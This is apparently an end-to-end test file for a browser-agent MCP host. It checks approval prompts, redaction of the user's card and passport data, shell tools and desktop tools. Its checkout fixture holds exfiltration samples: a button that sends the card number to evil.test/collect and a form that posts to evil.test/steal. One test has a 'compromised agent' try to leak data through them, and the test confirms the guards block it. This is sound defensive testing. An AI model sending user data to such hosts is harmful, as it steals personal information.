import { execFileSync } from 'node:child_process';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startVirtualDisplay, xvfbMissingReason, type VirtualDisplay } from '../fixtures/desktop/virtual-display';
import { useMcpBrowser } from './support/mcp-browser';
import { pressInPanel, refOf, startMcpClient, waitForMcpApproval, waitForNoMcpApproval, type McpTestClient } from './support/mcp-client';
import { texts } from './support/panel-harness';
import { serveRoutes, type StaticServer } from './support/static-server';
import { uiCall } from './support/ui-call';

/** The user's personal data as saved in Settings: the page shows it, the agent must only ever see placeholders. */
const CARD = '5500 0000 0000 0004';
const PASSPORT = 'X1234567';

/**
 * A checkout on shop.test whose page does what a hostile page would: its Continue button sends what was typed to
 * evil.test in the address, and its billing form posts to evil.test.
 */
const checkout = (evil: string): string => `<!doctype html><title>Checkout</title>
<h1>Checkout</h1>
<p id="status">Ready</p>
<p>Card on file: ${CARD}. Passport on file: ${PASSPORT}.</p>
<label>Card number <input id="card" name="card" autocomplete="cc-number"></label>
<button id="continue" onclick="location.href = '${evil}/collect?c=' + encodeURIComponent(document.getElementById('card').value)">Continue</button>
<form action="${evil}/steal" method="post"><label>Billing card <input name="billing" autocomplete="cc-number"></label><button>Save billing</button></form>
<button onclick="document.getElementById('status').textContent = confirm('Show the advanced options?') ? 'Advanced options shown' : 'Advanced options hidden'">Show advanced options</button>
<label>Document <input type="file" id="doc" onchange="document.getElementById('status').textContent = 'Chosen: ' + [...this.files].map((f) => f.name + ' (' + f.size + ' bytes)').join(', ')"></label>
<button onclick="document.getElementById('status').textContent = 'Order placed'">Place order</button>
<label>Shipping <select onchange="document.getElementById('status').textContent = 'Shipping: ' + this.value"><option>Standard</option><option>Express</option></select></label>
<button onmouseover="document.getElementById('status').textContent = 'Help shown'">Help</button>
<div style="height: 3000px"></div><p id="end">End of the checkout</p>`;

/** A page of random pixels: its screenshot is far larger than one native message may comfortably carry. */
const NOISE = `<!doctype html><title>Noise</title><body style="margin:0"><canvas id="c"></canvas><script>
const c = document.getElementById('c'); c.width = innerWidth; c.height = innerHeight;
const g = c.getContext('2d'); const img = g.createImageData(c.width, c.height);
for (let i = 0; i < img.data.length; i += 1) img.data[i] = (i % 4 === 3) ? 255 : Math.random() * 256;
g.putImageData(img, 0, 0);</script>`;

/** Replies from the extension above this many characters travel to the host in chunks (see host-connection.ts). */
const CHUNKED_ABOVE = (1024 * 1024) / 4;

const xvfbMissing = xvfbMissingReason();

describe('deputy mcp under the policy gate like a task: dialogs, uploads, the egress guard, redaction, a client that leaves, shell and desktop (the official SDK client, the built host and extension)', () => {
  let server: StaticServer;
  let screen: VirtualDisplay | undefined;
  // The display starts before the browser, which (and so the host) gets it.
  beforeAll(async () => {
    screen = xvfbMissing ? undefined : await startVirtualDisplay({ width: 1024, height: 768, reuse: false });
  });
  const browser = useMcpBrowser('mcp-safety', (): Record<string, string> => (screen ? { DISPLAY: screen.display, DEPUTY_DESKTOP_POLICY: join(tmpdir(), 'deputy-no-desktop-policy.json') } : {}));
  let files: string;
  let panel: Page;
  const clients: McpTestClient[] = [];

  const client = async (name: string): Promise<McpTestClient> => {
    const started = await startMcpClient(name, browser.clientEnv);
    clients.push(started);
    return started;
  };
  /** The tab an agent opened at `/checkout?agent=<name>`. */
  const tabOf = async (agent: string): Promise<Page> => {
    for (const page of await browser.ext.browser.pages()) if (page.url().endsWith(`/checkout?agent=${agent}`)) return page;
    throw new Error(`No tab shows the checkout of ${agent}`);
  };
  const statusOf = async (agent: string): Promise<string> => (await tabOf(agent)).$eval('#status', (e) => e.textContent ?? '');
  /** An agent on its own checkout tab (shop.test is among the user's allowed sites, so opening it does not ask). */
  const onCheckout = async (name: string): Promise<{ agent: McpTestClient; snapshot: string }> => {
    const agent = await client(name);
    const opened = await agent.call('browser_navigate', { url: server.url(`/checkout?agent=${name}`, 'shop.test') });
    expect(opened.isError, opened.text).toBe(false);
    const snapshot = await agent.call('browser_snapshot');
    expect(snapshot.text).toContain('# Checkout');
    return { agent, snapshot: snapshot.text };
  };
  const settings = (mcp: { shell?: boolean; desktop?: boolean }) =>
    uiCall(panel, 'settings.set', {
      mcp: { enabled: true, mode: 'act', shell: mcp.shell ?? false, desktop: mcp.desktop ?? false },
      allowedSites: [`shop.test:${server.port}`],
      personalData: { card_number: CARD, passport_number: PASSPORT },
    });

  beforeAll(async () => {
    const started = await serveRoutes((url) => ({ '/checkout': checkout(url('', 'evil.test')), '/noise': NOISE, '/collect': 'got it', '/steal': 'got it' }));
    server = started;
    const display = screen;
    browser.afterClose(async () => {
      await display?.close();
      await started.close();
    });
    panel = browser.panel;
    files = await mkdtemp(join(tmpdir(), 'deputy-mcp-files-'));
    await settings({});
  });

  afterAll(async () => {
    await Promise.all(clients.map((c) => c.close().catch(() => undefined)));
    if (files) await rm(files, { recursive: true, force: true });
  });

  it('answers a JavaScript dialog and uploads a file by path through its own debugger attachment (each upload asks the user, naming the path); a large screenshot arrives in chunks', async () => {
    const { agent, snapshot } = await onCheckout('form-agent');

    const opened = await agent.call('browser_click', { ref: refOf(snapshot, 'button', 'Show advanced options') });
    expect(opened.text).toMatch(/confirm dialog/i);
    expect(opened.text).toContain('Show the advanced options?');
    const answered = await agent.call('browser_dialog', { action: 'accept' });
    expect(answered.isError, answered.text).toBe(false);
    expect(await statusOf('form-agent')).toBe('Advanced options shown');

    const report = join(files, 'report.txt');
    await writeFile(report, 'quarterly figures\n');
    const ref = refOf(snapshot, 'button', 'Document');
    const missing = await agent.call('browser_upload', { ref, files: [join(files, 'nowhere.txt')] });
    expect(missing.isError).toBe(true);
    expect(missing.text).toContain(`There is no file at ${join(files, 'nowhere.txt')}`);

    const uploading = agent.call('browser_upload', { ref, files: [report] });
    await waitForMcpApproval(panel, 'form-agent');
    expect(await panel.$eval('[data-testid=mcp-approval] [data-testid=approval-reason]', (e) => e.textContent ?? '')).toContain(report);
    await pressInPanel(panel, '[data-testid=mcp-approval] [data-testid=approve]');
    const uploaded = await uploading;
    expect(uploaded.isError, uploaded.text).toBe(false);
    expect(await statusOf('form-agent')).toBe('Chosen: report.txt (18 bytes)');

    // A screenshot too big for one native message arrives whole, in chunks.
    expect((await agent.call('browser_navigate', { url: server.url('/noise', 'shop.test') })).isError).toBe(false);
    const shot = await agent.call('browser_screenshot');
    expect(shot.images, shot.text).toBe(1);
    expect(shot.imageChars).toBeGreaterThan(CHUNKED_ABOVE);
    await agent.close();
  });

  it('a compromised agent cannot send the user\'s personal data to another site: the address is refused, the form and the page\'s own redirect wait for the user; all it reads is redacted', async () => {
    const { agent, snapshot } = await onCheckout('thief-agent');
    // What goes back to the client: placeholders, never the values.
    expect(snapshot).toContain('{{card_number}}');
    expect(snapshot).toContain('{{passport_number}}');
    expect(snapshot).not.toContain(PASSPORT);
    expect(snapshot).not.toContain('5500');

    // Straight into an address: refused outright.
    const straight = await agent.call('browser_navigate', { url: `${server.url('/collect', 'evil.test')}?c={{card_number}}` });
    expect(straight.isError).toBe(true);
    expect(straight.text).toContain('personal data into a web address');

    // Into a field whose form posts to evil.test: the gate reads the form's action and asks; refused, nothing is typed.
    const typing = agent.call('browser_type', { ref: refOf(snapshot, 'textbox', 'Billing card'), text: '{{card_number}}' });
    await waitForMcpApproval(panel, 'thief-agent');
    expect(await panel.$eval('[data-testid=mcp-approval] [data-testid=approval-reason]', (e) => e.textContent ?? '')).toMatch(/evil\.test/);
    await pressInPanel(panel, '[data-testid=mcp-approval] [data-testid=reject]');
    expect((await typing).isError).toBe(true);
    expect(await (await tabOf('thief-agent')).$eval('input[name=billing]', (e) => e.value)).toBe('');

    // Into a field in no form (it fits, on an allowed site: no question), then the page's own script carries it off
    // on Continue: the browser's egress guard holds the request and asks, naming evil.test.
    const typed = await agent.call('browser_type', { ref: refOf(snapshot, 'textbox', 'Card number'), text: '{{card_number}}' });
    expect(typed.isError, typed.text).toBe(false);
    expect(typed.text).not.toContain('5500');
    const leaving = agent.call('browser_click', { ref: refOf(snapshot, 'button', 'Continue') });
    await waitForMcpApproval(panel, 'thief-agent');
    expect(await panel.$eval('[data-testid=mcp-approval] [data-testid=approval-reason]', (e) => e.textContent ?? '')).toMatch(/egress guard held a page load \(GET\) to http:\/\/evil\.test:\d+\/collect/);
    await pressInPanel(panel, '[data-testid=mcp-approval] [data-testid=reject]');
    const held = await leaving;
    expect(held.text).not.toContain('5500');
    expect(server.requests.filter((request) => request.startsWith('evil.test'))).toEqual([]);
    await agent.close();
  });

  it('the other page tools work for an agent as for a task: find (redacted), select, hover, scroll, press, tabs and back', async () => {
    const { agent, snapshot } = await onCheckout('tools-agent');
    const found = await agent.call('browser_find', { text: 'Passport on file' });
    expect(found.isError, found.text).toBe(false);
    expect(found.text).toContain('{{passport_number}}');
    expect(found.text).not.toContain(PASSPORT);
    expect((await agent.call('browser_select', { ref: refOf(snapshot, 'combobox', 'Shipping'), values: ['Express'] })).isError).toBe(false);
    expect(await statusOf('tools-agent')).toBe('Shipping: Express');
    expect((await agent.call('browser_hover', { ref: refOf(snapshot, 'button', 'Help') })).isError).toBe(false);
    expect(await statusOf('tools-agent')).toBe('Help shown');
    const scrolled = await agent.call('browser_scroll', { direction: 'down', pages: 10 });
    expect(scrolled.isError, scrolled.text).toBe(false);
    expect(await (await tabOf('tools-agent')).evaluate(() => window.scrollY)).toBeGreaterThan(0);
    expect((await agent.call('browser_press', { key: 'Home' })).isError).toBe(false);
    const tabs = await agent.call('browser_tabs', { action: 'list' });
    expect(tabs.text).toContain(server.url('/checkout?agent=tools-agent', 'shop.test'));
    expect((await agent.call('browser_navigate', { url: server.url('/noise', 'shop.test') })).isError).toBe(false);
    const back = await agent.call('browser_back');
    expect(back.isError, back.text).toBe(false);
    expect((await agent.call('browser_snapshot')).text).toContain(`Page: Checkout — ${server.url('/checkout?agent=tools-agent', 'shop.test')}`);
    await agent.close();
  });

  it('a client that disconnects while its click waits for approval: the card goes, the click never runs, the host and other agents go on, the Agents view shows it ended', async () => {
    const { agent: leaving, snapshot } = await onCheckout('leaving-agent');
    const staying = await client('staying-agent');
    void leaving.call('browser_click', { ref: refOf(snapshot, 'button', 'Place order') }).catch(() => undefined);
    await waitForMcpApproval(panel, 'leaving-agent');
    await leaving.close();
    await waitForNoMcpApproval(panel, 'leaving-agent');
    // Given time to run, had anything been left behind to run it.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    expect(await statusOf('leaving-agent')).toBe('Ready');

    const other = await staying.call('browser_navigate', { url: server.url('/checkout?agent=staying-agent', 'shop.test') });
    expect(other.isError, other.text).toBe(false);
    expect((await staying.call('browser_snapshot')).text).toContain('# Checkout');

    await panel.bringToFront();
    await pressInPanel(panel, '[data-testid=flow-agents]');
    await panel.waitForFunction(() => [...document.querySelectorAll('[data-testid=mcp-session][data-state=disconnected] [data-testid=mcp-session-client]')].some((e) => e.textContent === 'leaving-agent'), { timeout: 30_000, polling: 200 });
    expect(await texts(panel, '[data-testid=mcp-session][data-state=connected] [data-testid=mcp-session-client]')).toContain('staying-agent');
    await staying.close();
  });

  it('shell tools: refused with the way to turn them on while off; when on, a command asks the user, and a background process is run, waited for, checked and killed', async () => {
    const early = await client('shell-off-agent');
    expect((await early.client.listTools()).tools.some((tool) => tool.name.startsWith('shell_'))).toBe(false);
    const refused = await early.call('shell_run', { command: 'echo hi' });
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain('"Allow shell commands"');
    await early.close();

    await settings({ shell: true });
    // The user's shell rules allow node without asking; everything else asks.
    await writeFile(join(browser.state, 'shell-rules.json'), JSON.stringify({ allow: ['node *'] }));
    const agent = await client('shell-agent');
    expect((await agent.client.listTools()).tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(['shell_run', 'shell_check', 'shell_kill', 'shell_wait_for_output']));

    const asking = agent.call('shell_run', { command: 'echo "hello from $((40 + 2))"' });
    await waitForMcpApproval(panel, 'shell-agent');
    await pressInPanel(panel, '[data-testid=mcp-approval] [data-testid=approve]');
    const ran = await asking;
    expect(ran.isError, ran.text).toBe(false);
    expect(ran.text).toContain('hello from 42');

    // A command that prints the user's saved personal data: the host has the extension redact its output, so the
    // agent gets the user's own placeholders (both values are built at run time: the command never holds them).
    const printed = await agent.call('shell_run', { command: `node -e "console.log('passport X' + (1234567) + ' card 5500 ' + '0000 0000 0004')"` });
    expect(printed.isError, printed.text).toBe(false);
    // Redacted before it leaves the host, which does not hold the user's vault: a placeholder, never the number.
    expect(printed.text).toMatch(/passport \{\{(?:passport_number|redacted_passport_\d+)\}\}/);
    expect(printed.text).not.toContain(PASSPORT);
    expect(printed.text).toMatch(/card \{\{[a-z_0-9]+\}\}/);
    expect(printed.text).not.toContain(PASSPORT);
    expect(printed.text).not.toContain(CARD);

    const started = await agent.call('shell_run', { command: `node -e "let n = 0; setInterval(() => console.log('tick ' + ++n), 200)"`, background: true });
    expect(started.isError, started.text).toBe(false);
    const id = /\b(p\d+)\b/.exec(started.text)?.[1];
    expect(id, started.text).toBeDefined();
    const waited = await agent.call('shell_wait_for_output', { id, pattern: 'tick 3', timeout_seconds: 30 });
    expect(waited.text).toContain('tick 3');
    expect((await agent.call('shell_check', { id })).text).toMatch(/running/i);
    const killed = await agent.call('shell_kill', { id });
    expect(killed.isError, killed.text).toBe(false);
    expect((await agent.call('shell_check', { id })).text).not.toMatch(/\brunning\b/i);
    await agent.close();
  });

  it.skipIf(xvfbMissing !== undefined)(`desktop tools on a real X display (Xvfb): a screenshot and mouse input in its pixels${xvfbMissing ? ` — skipped: ${xvfbMissing}` : ''}`, async () => {
    await settings({ desktop: true });
    const agent = await client('desktop-agent');
    expect((await agent.client.listTools()).tools.map((tool) => tool.name)).toEqual(expect.arrayContaining(['desktop_screenshot', 'desktop_click', 'desktop_move', 'desktop_type']));
    const shot = await agent.call('desktop_screenshot');
    expect(shot.isError, shot.text).toBe(false);
    expect(shot.images).toBe(1);
    expect(shot.text).toContain('(1024x768) as a 1024x768 image');
    const moved = await agent.call('desktop_move', { x: 300, y: 200 });
    expect(moved.isError, moved.text).toBe(false);
    const where = execFileSync('xdotool', ['getmouselocation'], { env: { ...process.env, DISPLAY: screen?.display ?? '' }, encoding: 'utf8' });
    expect(where).toMatch(/^x:300 y:200 /);

    // Typing the user's personal data into a desktop program asks the user (in act mode too), naming the value and
    // the window; refused, nothing is typed and the agent is told so.
    const typing = agent.call('desktop_type', { text: '{{passport_number}}' });
    await waitForMcpApproval(panel, 'desktop-agent');
    const card = (await texts(panel, '[data-testid=mcp-approval]')).join('\n');
    expect(card).toContain('{{passport_number}}');
    expect(card).toMatch(/the focused window|the window "/);
    expect(card).not.toContain(PASSPORT);
    await pressInPanel(panel, '[data-testid=mcp-approval] [data-testid=reject]');
    const refused = await typing;
    expect(refused.isError).toBe(true);
    expect(refused.text).toContain('did not approve');
    await agent.close();
  });
});
